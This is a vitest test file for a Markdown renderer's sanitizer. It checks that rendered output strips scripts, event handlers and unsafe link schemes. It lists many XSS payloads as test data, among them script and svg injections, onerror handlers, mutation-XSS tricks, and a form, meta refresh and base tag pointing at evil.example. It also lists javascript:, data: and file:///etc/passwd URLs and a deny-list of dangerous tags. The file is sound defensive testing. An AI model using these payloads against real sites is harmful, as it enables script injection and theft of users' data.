import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../../../src/tools/console/reference/markdown.js'

const render = (text: string): string => renderMarkdown(text).markup
const parser = new new JSDOM('', { url: 'https://console.example' }).window.DOMParser()
const parse = (markup: string): Document => parser.parseFromString(markup, 'text/html')

describe('hostile Markdown', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<script>alert(1)',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<ScRiPt src=//evil.example></ScRiPt >',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)" alt="x">',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<a href="x"onmouseover="alert(1)">x</a>',
    `<a title='"><script>alert(1)</script>' href=x>x</a>`,
    '<p/onclick=alert(1)>x',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=key><button>x</button></form>',
    '<style>body { display: none }</style>',
    '<p style="position: fixed" class="bar" id="reference">x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example"></object><embed src=x><link rel=stylesheet href=x>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<template><script>alert(1)</script></template>',
    '<!-- --><script>alert(1)</script>',
    '<!--><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<a href=\'javascript:alert("1")\'>x</a>',
    '```\n</code></pre><script>alert(1)</script>\n```',
    '[x](https://example.com "\\"onmouseover=\\"alert(1)")',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '</div></main></body><h1>x',
    '<table><tr><td><b><i>x',
    '<td>x</td><li>y</li></ul>',
    `${'> '.repeat(5000)}x`,
  ]

  it.each(HOSTILE)('%s', (text) => {
    // In a list item, which markup that is not closed, or closes more than it opened, would leave.
    const document = parse(`<ul><li id="outer">${render(text)}</li></ul><p id="after"></p>`)
    // The frame of code, which no text can write.
    const own = '#outer, #after, figure, figcaption, figcaption > .copy'
    const all = [...document.body.querySelectorAll('*')].filter((element) => !element.matches(own))
    for (const element of all) {
      expect(element.localName).not.toMatch(
        /^(?:script|style|img|svg|math|iframe|form|input|button|base|meta|object|embed|link|textarea|template|noscript)$/,
      )
      for (const { name, value } of element.attributes) {
        expect(['href', 'rel', 'align', 'start', 'title', 'tabindex']).toContain(name)
        if (name === 'href') expect(new URL(value, 'https://console.example').protocol).toMatch(/^(?:https?|mailto):$/)
      }
    }
    expect(document.querySelector('#after')!.parentElement).toBe(document.body)
    expect(document.body.querySelector(':scope > ul')!.childElementCount).toBe(1)
  })

  it('with lists or headings in each other, or equal headings, ends soon', () => {
    expect(render(`${'1. '.repeat(100_000)}x`)).toMatch(/^<p>1\. 1\. /)
    const { markup } = renderMarkdown(`# ${'<h1>'.repeat(30_000)}x`, { headingIds: true })
    expect(markup.match(/<h\d/g)).toHaveLength(1)
    const equal = renderMarkdown('# Fixed\n'.repeat(20_000), { headingIds: true })
    expect(equal.markup).toContain('id="fixed-19999"')
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java&#9;script:alert(1)',
    '&#x6A;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58alert(1)',
    '&Tab;javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://example.com/1',
    'intent://x',
  ])('the link %j', (url) => {
    for (const text of [
      `[x](<${url}>)`,
      `<a href="${url}">x</a>`,
      `<a href='${url}'>x</a>`,
      `<a href=${url}>x</a>`,
      `<${url}>`,
      `[x]\n\n[x]: ${url}`,
    ]) {
      for (const { protocol } of parse(render(text)).querySelectorAll<HTMLAnchorElement>('a[href]'))
        expect(protocol).toBe('https:')
    }
  })
})
